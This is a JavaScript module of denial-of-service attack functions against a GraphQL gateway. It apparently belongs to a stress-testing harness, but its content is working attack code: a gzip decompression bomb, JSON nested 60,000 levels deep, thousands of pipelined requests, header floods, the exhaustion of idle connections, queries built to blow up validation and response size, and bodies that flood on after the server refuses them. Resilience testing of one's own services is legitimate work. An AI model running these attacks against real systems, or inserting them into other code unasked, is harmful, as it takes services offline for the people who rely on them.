/* Attacks that are in no table. As in attacks.mjs, each goes on until it is ended. */
import { gzipSync } from 'node:zlib';
import { client, head, keepOpen, open, pace } from './wire.mjs';

/** JSON that is expensive to parse, with a token that is valid. */
export async function uniqueKeys(target) {
  const members = Array.from({ length: 20_000 }, (_, index) => `"k${index.toString(36)}":${index}`);
  const body = `{"query":"{me{id}}","variables":{${members.join()}}}`;
  const send = client(target);
  await pace(50, () => send(body));
}

/** Documents for which validation compares every field with every other one, on two levels. */
export async function overlappingFields(target) {
  const send = client(target);
  await pace(50, (number) => {
    const inner = 'nodes { status } '.repeat(14);
    return send({ query: `query O${number} { me { ${`referredFriends { ${inner} } `.repeat(14)} } }` });
  });
}

/** Large responses that are asked for and never read. */
export const unreadResponses = (target) =>
  keepOpen({
    target,
    number: 100,
    perSecond: 100,
    use(socket) {
      socket.pause();
      const body = JSON.stringify({
        query:
          'query Unread { me { referredFriends(limit: 200) { nodes { playerUniqueId displayName email joinDate } } } }',
      });
      const headers = [`Authorization: ${target.authorization}`, `Content-Length: ${body.length}`];
      socket.write((head({ headers }) + body).repeat(20));
    },
  });

/** Thousands of requests in one write. */
export const pipelined = (target) =>
  keepOpen({
    target,
    number: 5,
    perSecond: 20,
    use(socket) {
      socket.write('GET /nope HTTP/1.1\r\nHost: localhost\r\n\r\n'.repeat(1_500));
      socket.resume();
      setTimeout(() => socket.destroy(), 3_000);
    },
  });

/** JSON nested as deep as a body allows, where any JSON is taken. */
export async function deepNesting(target) {
  const depth = 60_000;
  const query =
    'mutation D($m: EventMetadata) { trackEvents(input: { playerUniqueId: "attacker", events: [{ name: "a", metadata: $m }] }) { eventNames } }';
  const body = `${JSON.stringify({ query }).slice(0, -1)},"variables":{"m":${'{"a":'.repeat(depth / 2)}1${'}'.repeat(depth / 2)}}}`;
  const send = client(target);
  await pace(50, () => send(body));
}

/** Long texts of which no two are alike, so that what is known of other texts is forgotten. */
export async function forgetting(target) {
  const send = client(target);
  await pace(50, (number) => send({ query: `query F${number} { me { id } } #${'x'.repeat(16_000)}` }));
}

/** Responses many times as long as what was asked for: long aliases in long lists, compressed. */
export async function longAliases(target) {
  const fields = Array.from({ length: 24 }, (_, index) => `${'a'.repeat(120)}${index}: displayName`);
  const query = `query Long { me { referredFriends(limit: 200) { nodes { ${fields.join(' ')} } } } }`;
  const send = client(target);
  await pace(50, () => send({ query }, { 'accept-encoding': 'gzip' }));
}

/** As many headers as are taken, from nobody. */
export async function headerFlood(target) {
  const headers = Array.from({ length: 190 }, (_, index) => `X-Header-${index}: ${'v'.repeat(60)}`);
  await pace(200, () => {
    const socket = open(target);
    socket.once('connect', () => socket.end(head({ headers: [...headers, 'Content-Length: 0'] })));
    setTimeout(() => socket.destroy(), 1_000);
  });
}

/** Operations of many REST calls, abandoned as soon as they have begun. */
export async function abandoned(target) {
  const pages = Array.from(
    { length: 18 },
    (_, page) => `p${page}: referredFriends(page: ${1 + page * 40}, limit: 3) { total }`,
  );
  const body = JSON.stringify({ query: `query Abandoned { me { id ${pages.join(' ')} } }` });
  await pace(50, () => {
    const socket = open(target);
    const headers = [`Authorization: ${target.authorization}`, `Content-Length: ${body.length}`];
    socket.once('connect', () => {
      socket.write(head({ headers }) + body);
      setTimeout(() => socket.resetAndDestroy(), 4);
    });
  });
}

/** Connections on which nothing is sent, more than the gateway keeps. */
export const silent = (target) => keepOpen({ target, number: 1_500, perSecond: 3_000, use() {} });

/** A compressed body that would expand to a hundred megabytes, with a token that is valid. */
export async function compressedBodies(target) {
  const bomb = gzipSync(Buffer.alloc(100 * 1_024 * 1_024, ' '));
  const send = client(target);
  await pace(20, () => send(bomb, { 'content-encoding': 'gzip' }));
}

/** Bodies that begin after their refusal and do not end, from nobody. */
export const floodAfterRefusal = (target) =>
  keepOpen({
    target,
    number: 5,
    use(socket) {
      const piece = Buffer.alloc(65_536, 'x');
      const flood = () => socket.write(piece, (error) => error || flood());
      socket.once('data', flood);
      socket.write(head({ path: '/nope', headers: ['Content-Length: 10000000000'] }));
    },
  });
